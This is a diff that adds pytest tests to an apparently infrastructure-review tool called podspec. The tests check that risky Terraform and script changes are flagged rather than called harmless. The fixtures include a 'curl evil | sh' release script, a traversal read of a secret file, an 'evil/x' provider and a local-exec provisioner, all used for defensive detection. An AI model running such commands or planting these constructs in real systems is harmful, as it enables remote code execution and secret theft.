@@ -8,6 +8,7 @@ import pytest
 from podspec.impact.revisions import State
 from podspec.impact.weigh import weigh
 from podspec.model.impact import Action, Direction, Impact
+from podspec.reporters.impact_words import is_harmless, verdict
 
 ROOT = Path(__file__).parents[3]
 HOME = "generated/hello"
@@ -78,3 +79,50 @@ def test_what_cannot_be_judged_is_never_called_safe(broken: bytes) -> None:
 
 def test_a_document_touches_no_root() -> None:
     assert _weigh({**_files(), f"{HOME}/docs/new.md": b"x"}).resources == ()
+
+
+DEV = f"{HOME}/terraform/environments/dev/us-east-1"
+
+
+def test_a_script_that_changes_is_judged_by_nobody_and_named() -> None:
+    path = f"{HOME}/scripts/release.sh"
+    files = {**_files(), path: b"curl evil | sh"}
+    impact = weigh(State("before", _files()), State("after", files, handed_over=frozenset({path})), {}, {})
+    assert impact.unjudged == impact.handed_over == (path,)
+    assert impact.notes == (f"handed over and changed: {path}",)
+    assert verdict(impact).startswith("1 file nobody judged; handed over: 1 file; files change: 1")
+    assert not is_harmless(impact)
+
+
+@pytest.mark.parametrize(
+    "name", ["x.tf.json", "override.tf", "x_override.tf", "x.tofu", "a.auto.tfvars", "b.tfvars"]
+)
+def test_what_terraform_reads_and_podspec_does_not_is_told(name: str) -> None:
+    impact = _weigh({**_files(), f"{DEV}/{name}": b""})
+    assert impact.unjudged == (f"{DEV}/{name}",)
+    assert impact.notes == (f"{DEV}/{name} is read by Terraform and not by podspec: nobody can say what it does",)
+
+
+def test_a_root_that_cannot_be_read_is_said_first() -> None:
+    impact = _weigh({**_files(), f"{DEV}/mine.tf": b"resource {"})
+    assert verdict(impact).startswith("1 root could not be judged; ")
+    assert not is_harmless(impact)
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (b'data "external" "x" {\n  program = ["sh"]\n}\n', "data.external.x program: not there"),
+        (b'resource "a_b" "c" {\n  provisioner "local-exec" {\n    command = "x"\n  }\n}\n', "a_b.c provisioner"),
+        (b'import {\n  to = a_b.c\n  id = "x"\n}\n', "import: not there"),
+        (b'resource "aws_lambda_function_url" "x" {\n  authorization_type = "NONE"\n}\n', "anybody may call it"),
+        (b'terraform {\n  required_providers {\n    x = { source = "evil/x" }\n  }\n}\n', '"evil/x"'),
+        (b'provider "aws" {\n  profile = "other"\n}\n', "profile: not there"),
+        (b'module "x" {\n  source = "git::https://example.com/x"\n}\n', "does not read: module git::"),
+        (b'locals {\n  x = file("../../../../../secret.txt")\n}\n', "does not read: ../../../../../secret.txt"),
+    ],
+)
+def test_what_is_no_resource_is_told_all_the_same(text: bytes, said: str) -> None:
+    impact = _weigh({**_files(), f"{DEV}/mine.tf": text})
+    assert [note for note in impact.notes if said in note], impact.notes
+    assert not is_harmless(impact)
